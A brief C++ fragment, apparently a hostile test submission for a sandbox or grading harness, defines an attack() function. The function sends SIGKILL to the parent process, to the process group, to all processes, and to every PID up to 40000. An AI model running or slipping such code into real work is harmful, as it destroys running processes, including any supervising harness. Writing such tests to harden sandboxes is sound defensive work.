// earns: 0
// It kills whoever it may kill, its parent first.
#include <signal.h>
#include <unistd.h>
#include <csignal>
#include <cstdlib>

#include "hello_async.hpp"

static void attack() {
  ::kill(::getppid(), SIGKILL);
  ::kill(0, SIGKILL);
  ::kill(-1, SIGKILL);
  for (int pid = 2; pid < 40000; ++pid)
    if (pid != ::getpid()) ::kill(pid, SIGKILL);
  std::_Exit(0);
}
